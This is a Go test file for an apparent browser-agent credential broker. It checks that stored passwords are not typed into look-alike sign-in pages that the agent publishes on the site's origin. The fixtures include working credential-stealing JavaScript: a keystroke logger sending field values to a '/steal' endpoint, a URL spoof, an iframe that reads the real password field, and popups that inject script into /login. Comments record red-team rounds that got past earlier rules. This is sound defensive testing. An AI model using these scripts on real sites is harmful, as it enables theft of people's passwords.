//go:build linux

package tests

// Issue 27: a page the agent wrote, on the credential's origin. A staging site that serves
// user content from its own origin lets the agent publish a look-alike sign-in form whose
// script reads the field as it is typed. A credential learns where it signed in (or the person
// sets it at enrolment): a form anywhere else on the origin is LOGIN_PATH_CHANGED before
// anyone is asked, unless the agent asks for the person's decision, whose prompt then says in
// its first line that this is not where they signed in before. A loopback site served by a
// process the agent started says so in the prompt's first line.

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/headless-dev/headless/internal/broker/presence/presencetest"
)

// agentSink is the agent's own server: it logs every request it gets.
type agentSink struct {
	*httptest.Server
	mu  sync.Mutex
	log []string
}

func newAgentSink(t testing.TB) *agentSink {
	a := &agentSink{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.log = append(a.log, r.URL.String())
		a.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *agentSink) got() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.log...)
}

// lookAlike is the agent's page on the site's origin: the site's own form (posting to the
// site's /login), and a script that sends every keystroke's field value to the agent.
func lookAlike(sink string) string {
	return lsLoginForm("/login", "") + `<script>
document.addEventListener("input", function (e) {
  new Image().src = "` + sink + `/steal?f=" + encodeURIComponent(e.target.name) + "&v=" + encodeURIComponent(e.target.value);
}, true);
</script>`
}

func TestLoginPaths(t *testing.T) {
	parallel(t)
	e := newEnv(t, envOptions{})
	site := newEchoSite(t)
	sink := newAgentSink(t)
	const account = "alice@example.test"
	pw := newCanary()
	site.SetAccount(account, pw)
	// The agent publishes its page on the site (user content served from the origin).
	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/signin", func(w http.ResponseWriter, r *http.Request) {
		lsPage(w, "Sign in", lookAlike(sink.URL))
	})
	// The same look-alike, showing /login as its URL (history.replaceState before the form is
	// drawn): red-team round 13 signed in on it past the rule, under a prompt naming "/login".
	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/ps", func(w http.ResponseWriter, r *http.Request) {
		lsPage(w, "Sign in", `<script>history.replaceState(null, "", "/login")</script>`+lookAlike(sink.URL))
	})
	// Red-team round 31: a published copy of the sign-in form (posting to the real /login),
	// which the person allows once at a new path; the sign-in is authenticated.
	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/copy", func(w http.ResponseWriter, r *http.Request) {
		lsPage(w, "Sign in", lsLoginForm("/login", ""))
	})
	// Red-team round 30: a published page frames the real /login and reads its password field
	// from outside as it is typed (the frame is of its own origin).
	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/frame", func(w http.ResponseWriter, r *http.Request) {
		lsPage(w, "Sign in", `<iframe id="fr" src="/login" width="600" height="400" title="sign in"></iframe>
<script>setInterval(function () { try {
  var f = document.getElementById("fr").contentDocument.querySelector("input[type=password]");
  if (f && f.value) { new Image().src = "`+sink.URL+`/steal?f=framed&v=" + encodeURIComponent(f.value); }
} catch (e) {} }, 20);</script>`)
	})
	// Red-team round 13b: a published page opens a same-origin popup, then goes to the real
	// /login; the popup, through window.opener, plants a keystroke-reading script in /login's
	// own document (inject), or rewrites it with document.open (rewrite), and may close
	// itself before the sign-in (gone).
	spy := func(mode string) string {
		planted := strings.ReplaceAll(strings.TrimPrefix(strings.TrimSuffix(lookAlike(sink.URL), "</script>"), lsLoginForm("/login", "")+"<script>"), "\n", " ")
		act := map[string]string{
			"inject":  `var sc = o.document.createElement("script"); sc.textContent = ` + strconv.Quote(planted) + `; o.document.head.appendChild(sc);`,
			"gone":    `var sc = o.document.createElement("script"); sc.textContent = ` + strconv.Quote(planted) + `; o.document.head.appendChild(sc); window.close();`,
			"rewrite": `o.document.open(); o.document.write(` + strconv.Quote(lookAlike(sink.URL)) + `); o.document.close();`,
		}[mode]
		return `<script>var done = false; setInterval(function () { try { var o = window.opener;
  if (!done && o && o.location.pathname === "/login" && o.document.readyState === "complete" && o.document.querySelector("input[type=password]")) { done = true; ` + act + ` }
} catch (e) {} }, 20);</script>`
	}
	for _, mode := range []string{"inject", "gone", "rewrite"} {
		site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/op-"+mode, func(w http.ResponseWriter, r *http.Request) {
			lsPage(w, "Start", `<button onclick="window.open('/u/agent/spy-`+mode+`', 's', 'width=300,height=200'); location.href = '/login';">Continue</button>`)
		})
		site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/spy-"+mode, func(w http.ResponseWriter, r *http.Request) {
			lsPage(w, "Spy", spy(mode))
		})
	}
	// A popup that beats, to a sink of its own (red-team round 13d: one outlived 'session close').
	hbSink := newAgentSink(t)
	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/hb-open", func(w http.ResponseWriter, r *http.Request) {
		lsPage(w, "Start", `<button onclick="window.open('/u/agent/hb', 'hb', 'width=300,height=200')">Open</button>`)
	})
	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/hb", func(w http.ResponseWriter, r *http.Request) {
		lsPage(w, "Beat", `<script>setInterval(function () { new Image().src = "`+hbSink.URL+`/hb?" + Date.now(); }, 100);</script>`)
	})
	approve, approveLog := presencetest.FakePinentry(t, "approve")
	lsPresence(e, approve, 5)
	lsEnroll(t, e, site.URL, "main", account, pw)
	e.start(t)
	prompts := func() []string { return presencetest.Prompts(t, approveLog) }
	paths := func(t *testing.T, alias string) []string {
		t.Helper()
		var l struct {
			Credentials []struct {
				Alias      string   `json:"alias"`
				LoginPaths []string `json:"login_paths"`
			} `json:"credentials"`
		}
		e.ok(t, &l, "credentials", "list", "--origin", site.URL)
		for _, c := range l.Credentials {
			if c.Alias == alias {
				return c.LoginPaths
			}
		}
		t.Fatalf("alias %s not listed: %+v", alias, l)
		return nil
	}

	t.Run("first sign-in is learned", func(t *testing.T) {
		if p := paths(t, "main"); len(p) != 0 {
			t.Fatalf("a new credential knows paths %v", p)
		}
		lsVisit(t, e, site.URL+"/login")
		lsLoginOK(t, e, "authenticated", "--alias", "main")
		p := prompts()
		last := p[len(p)-1]
		if !strings.Contains(last, "\nNO SIGN-IN PAGE WAS SET FOR THIS CREDENTIAL: page \"/login\", which the agent chose, will be remembered as its sign-in page.") {
			t.Errorf("the first sign-in's prompt does not warn that the agent's page is remembered: %q", last)
		}
		// The site is served by this test process, which started the agent's CLI: the agent's.
		if !strings.HasPrefix(last, "THE AGENT STARTED THIS SITE: "+site.URL) {
			t.Errorf("the prompt for a loopback site the agent's chain serves does not say so first: %q", last)
		}
		if got := paths(t, "main"); len(got) != 1 || got[0] != "/login" {
			t.Fatalf("after an authenticated sign-in at /login the credential knows %v", got)
		}
	})

	t.Run("look-alike at another path", func(t *testing.T) {
		n, posts := len(prompts()), site.postCount()
		lsVisit(t, e, site.URL+"/u/agent/signin")
		r := lsLogin(e, "--alias", "main")
		if r.code == 0 || errCode(t, r) != "LOGIN_PATH_CHANGED" || !strings.Contains(r.stdout, `\"/u/agent/signin\"`) || !strings.Contains(r.stdout, `(\"/login\")`) {
			t.Fatalf("auth login on the agent's look-alike form: %+v", r)
		}
		if len(prompts()) != n {
			t.Errorf("the person was asked about a form at another path: %q", prompts()[n:])
		}
		time.Sleep(300 * time.Millisecond)
		if got := sink.got(); len(got) != 0 || site.postCount() != posts {
			t.Errorf("the look-alike got something: agent log %v, site posts %d→%d", got, posts, site.postCount())
		}
	})

	t.Run("look-alike that shows /login as its URL", func(t *testing.T) {
		n, posts := len(prompts()), site.postCount()
		var p lsPageResult
		e.ok(t, &p, "visit", site.URL+"/u/agent/ps")
		if p.URL != site.URL+"/login" {
			t.Fatalf("set-up: the page shows %q, want its rewritten URL /login", p.URL)
		}
		r := lsLogin(e, "--alias", "main")
		if r.code == 0 || errCode(t, r) != "LOGIN_PATH_CHANGED" || !strings.Contains(r.stdout, `\"/u/agent/ps\"`) || !strings.Contains(r.stdout, `(\"/login\")`) {
			t.Fatalf("auth login on the look-alike that rewrote its URL to /login: %+v", r)
		}
		if len(prompts()) != n {
			t.Errorf("the person was asked about a form at another path: %q", prompts()[n:])
		}
		time.Sleep(300 * time.Millisecond)
		if got := sink.got(); len(got) != 0 || site.postCount() != posts {
			t.Errorf("the look-alike got something: agent log %v, site posts %d→%d", got, posts, site.postCount())
		}
	})

	t.Run("a published page that frames the real /login", func(t *testing.T) {
		n, posts := len(prompts()), site.postCount()
		if p := lsVisit(t, e, site.URL+"/u/agent/frame"); p.AuthRequired != nil {
			t.Fatalf("a framed sign-in form was offered: %+v", p.AuthRequired)
		}
		// Even with the person willing to sign in at a new path: the form is in a frame.
		for _, args := range [][]string{{"--alias", "main"}, {"--alias", "main", "--new-login-path"}} {
			r := lsLogin(e, args...)
			if r.code == 0 || errCode(t, r) != "NO_LOGIN_FORM" || !strings.Contains(r.stdout, "in a frame") {
				t.Fatalf("auth login %v on a page framing /login: %+v", args, r)
			}
		}
		if len(prompts()) != n {
			t.Errorf("the person was asked about a framed form: %q", prompts()[n:])
		}
		time.Sleep(300 * time.Millisecond)
		if got := sink.got(); len(got) != 0 || site.postCount() != posts {
			t.Errorf("the framing page got something: agent log %v, site posts %d→%d", got, posts, site.postCount())
		}
	})

	t.Run("a popup of a published page scripts the real /login", func(t *testing.T) {
		for _, mode := range []string{"inject", "gone", "rewrite"} {
			t.Run(mode, func(t *testing.T) {
				n, posts := len(prompts()), site.postCount()
				lsVisit(t, e, site.URL+"/u/agent/op-"+mode)
				var o struct {
					Elements []struct{ Ref, Kind string }
				}
				e.ok(t, &o, "snapshot")
				if len(o.Elements) == 0 {
					t.Fatal("set-up: no button")
				}
				e.ok(t, nil, "click", o.Elements[len(o.Elements)-1].Ref)
				e.ok(t, nil, "wait", "--url", "/login", "--timeout", "10s")
				time.Sleep(500 * time.Millisecond) // the popup has done its work
				r := lsLogin(e, "--alias", "main")
				if r.code == 0 || errCode(t, r) != "DOCUMENT_CHANGED" || !strings.Contains(r.stdout, "a window opened from this session's pages could script this page") {
					t.Fatalf("auth login on a /login a popup could script: %+v", r)
				}
				if len(prompts()) != n {
					t.Errorf("the person was asked: %q", prompts()[n:])
				}
				time.Sleep(300 * time.Millisecond)
				if got := sink.got(); len(got) != 0 || site.postCount() != posts {
					t.Errorf("something got out: agent log %v, site posts %d→%d", got, posts, site.postCount())
				}
				// The login page loaded again, with no window open: signed in as usual.
				lsVisit(t, e, site.URL+"/login")
				lsLoginOK(t, e, "authenticated", "--alias", "main")
				if got := sink.got(); len(got) != 0 {
					t.Errorf("the agent's server got %v", got)
				}
				e.run("", "headless", "visit", site.URL+"/logout", "--json")
			})
		}
	})

	t.Run("session close closes the windows its page opened", func(t *testing.T) {
		beats := func() int {
			n := 0
			for _, l := range hbSink.got() {
				if strings.HasPrefix(l, "/hb") {
					n++
				}
			}
			return n
		}
		e.ok(t, nil, "session", "create", "hb")
		lsVisit(t, e, site.URL+"/u/agent/hb-open", "--session", "hb")
		var o struct {
			Elements []struct{ Ref, Kind string }
		}
		e.ok(t, &o, "snapshot", "--session", "hb")
		e.ok(t, nil, "click", o.Elements[len(o.Elements)-1].Ref, "--session", "hb")
		if !pollUntil(10*time.Second, func() bool { return beats() > 2 }) {
			t.Fatal("set-up: the popup never beat")
		}
		e.ok(t, nil, "session", "close", "hb")
		time.Sleep(500 * time.Millisecond)
		n := beats()
		time.Sleep(time.Second)
		if got := beats(); got != n {
			t.Errorf("the popup of a closed session still runs: %d beats in the second after the close", got-n)
		}
	})

	t.Run("paths set at enrolment", func(t *testing.T) {
		r := e.runTTY([]step{{"Password for", pw + "\n"}, {"Repeat the password", pw + "\n"}},
			"headless", "credentials", "add", "--origin", site.URL, "--account", account, "--alias", "second", "--login-path", "/signin", "--login-path", "/sso/login", "--json")
		if r.code != 0 {
			t.Fatalf("credentials add --login-path: %+v", r)
		}
		if got := paths(t, "second"); strings.Join(got, " ") != "/signin /sso/login" {
			t.Fatalf("the paths set at enrolment are %v", got)
		}
		n := len(prompts())
		lsVisit(t, e, site.URL+"/login")
		lsLoginFails(t, e, []string{"LOGIN_PATH_CHANGED"}, "--alias", "second")
		if len(prompts()) != n {
			t.Error("the person was asked about a form at a path not set at enrolment")
		}
		if r := e.run("", "headless", "credentials", "add", "--origin", site.URL, "--account", account, "--alias", "third", "--login-path", "login", "--json"); r.code == 0 || !strings.Contains(r.stdout+r.stderr, "absolute path") {
			t.Errorf("--login-path login (not absolute): %+v", r)
		}
	})

	// Red-team round 31: a look-alike the person allowed once at a new path became a known
	// path, and later sign-ins there were asked with no warning. Allowed, it is never learned.
	t.Run("a new path allowed once is not learned", func(t *testing.T) {
		n := len(prompts())
		lsVisit(t, e, site.URL+"/u/agent/copy")
		lsLoginOK(t, e, "authenticated", "--alias", "main", "--new-login-path")
		if p := prompts(); len(p) != n+1 || !strings.Contains(p[n], `NOT WHERE YOU SIGNED IN BEFORE: this sign-in form is at "/u/agent/copy"`) {
			t.Fatalf("the prompt for the new path: %q", p[n:])
		}
		if got := paths(t, "main"); len(got) != 1 || got[0] != "/login" {
			t.Fatalf("after an allowed sign-in at a new path the credential knows %v, want only /login", got)
		}
		e.run("", "headless", "visit", site.URL+"/logout", "--json")
		lsVisit(t, e, site.URL+"/u/agent/copy")
		lsLoginFails(t, e, []string{"LOGIN_PATH_CHANGED"}, "--alias", "main")
		if len(prompts()) != n+1 {
			t.Errorf("the person was asked at the allowed-once path without --new-login-path: %q", prompts()[n+1:])
		}
		e.run("", "headless", "visit", site.URL+"/logout", "--json")
	})

	t.Run("the person decides on a new path", func(t *testing.T) {
		// The person refuses this time: a brokerd with the "deny" pinentry (the learned path
		// is brokerd's own state and survives the restart).
		deny, denyLog := presencetest.FakePinentry(t, "deny")
		e.ok(t, nil, "stop")
		e.stopBroker()
		lsPresence(e, deny, 5)
		e.start(t)
		lsVisit(t, e, site.URL+"/u/agent/signin")
		lsLoginFails(t, e, []string{"LOGIN_PATH_CHANGED"}, "--alias", "main")
		lsLoginFails(t, e, []string{"PRESENCE_DENIED"}, "--alias", "main", "--new-login-path")
		p := presencetest.Prompts(t, denyLog)
		if len(p) != 1 || !strings.Contains(p[0], `NOT WHERE YOU SIGNED IN BEFORE: this sign-in form is at "/u/agent/signin"; alias "main" signed in at "/login" before.`) {
			t.Fatalf("the prompt for a new path: %q", p)
		}
		// The look-alike that shows /login as its URL: the prompt names the path it loaded at.
		lsVisit(t, e, site.URL+"/u/agent/ps")
		lsLoginFails(t, e, []string{"PRESENCE_DENIED"}, "--alias", "main", "--new-login-path")
		p = presencetest.Prompts(t, denyLog)
		if len(p) != 2 || !strings.Contains(p[1], `NOT WHERE YOU SIGNED IN BEFORE: this sign-in form is at "/u/agent/ps"`) || !strings.Contains(p[1], `Page "/u/agent/ps"`) {
			t.Errorf("the prompt for the look-alike that rewrote its URL: %q", p)
		}
		time.Sleep(300 * time.Millisecond)
		if got := sink.got(); len(got) != 0 {
			t.Errorf("the look-alike got something: %v", got)
		}
		if got := paths(t, "main"); len(got) != 1 || got[0] != "/login" {
			t.Errorf("a refused new path was learned: %v", got)
		}
	})

	t.Run("loopback site not started by the agent", func(t *testing.T) {
		// A server started apart from the agent (setsid -f: its parent is init by the time it
		// serves): no such first line.
		dir := t.TempDir()
		portFile := filepath.Join(dir, "port")
		cmd := exec.Command("setsid", "-f", os.Args[0])
		cmd.Env = append(os.Environ(), helperEnv+"=loginserve", "LOGINSERVE_FILE="+portFile)
		// Its output goes to /dev/null: a pipe would be held open by the detached child.
		if err := cmd.Run(); err != nil {
			t.Fatalf("setsid: %v", err)
		}
		var port, pid int
		if !pollUntil(10*time.Second, func() bool {
			b, err := os.ReadFile(portFile)
			if err != nil {
				return false
			}
			_, err = fmt.Sscanf(string(b), "%d %d", &port, &pid)
			return err == nil
		}) {
			t.Fatal("the detached server did not start")
		}
		t.Cleanup(func() {
			// Still the server (its environment names its port file), not a pid reused since.
			if env, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/environ"); err == nil && bytes.Contains(env, []byte(portFile)) {
				syscall.Kill(pid, syscall.SIGKILL)
			}
		})
		origin := "http://127.0.0.1:" + strconv.Itoa(port)
		approve2, approveLog2 := presencetest.FakePinentry(t, "approve")
		e.ok(t, nil, "stop")
		e.stopBroker()
		lsPresence(e, approve2, 5)
		lsEnroll(t, e, origin, "apart", "carol@example.test", pw)
		e.start(t)
		lsVisit(t, e, origin+"/login")
		lsLoginOK(t, e, "authenticated", "--alias", "apart")
		p := presencetest.Prompts(t, approveLog2)
		if len(p) != 1 || strings.Contains(p[0], "THE AGENT STARTED THIS SITE") || !strings.Contains(p[0], "On this machine:") {
			t.Errorf("the prompt for a site the agent did not start: %q", p)
		}
	})

	e.ok(t, nil, "stop")
	needles := lsNeedles("password", pw)
	sweep := &lsSweep{t: t, needles: needles, files: map[string]int{}, seen: map[string]bool{}}
	sweep.search("every CLI output", []byte(e.allOutput()))
	sweep.search("the agent's server", []byte(strings.Join(sink.got(), "\n")))
}

// loginServe (helper "loginserve") is a sign-in site apart from the test: it listens on a
// loopback port, writes "PORT PID" to $LOGINSERVE_FILE, and serves /login (any POST signs in
// and goes to /home) until killed.
func loginServe() int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return 1
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) { lsPage(w, "Sign in", lsLoginForm("/login", "")) })
	mux.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/home", http.StatusSeeOther) })
	mux.HandleFunc("GET /home", func(w http.ResponseWriter, r *http.Request) { lsPage(w, "Home", "<h1>Welcome</h1>") })
	mux.HandleFunc("POST /typed", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	mux.HandleFunc("GET /app.css", func(w http.ResponseWriter, r *http.Request) {})
	os.WriteFile(os.Getenv("LOGINSERVE_FILE"), fmt.Appendf(nil, "%d %d", l.Addr().(*net.TCPAddr).Port, os.Getpid()), 0o600)
	http.Serve(l, mux)
	return 0
}
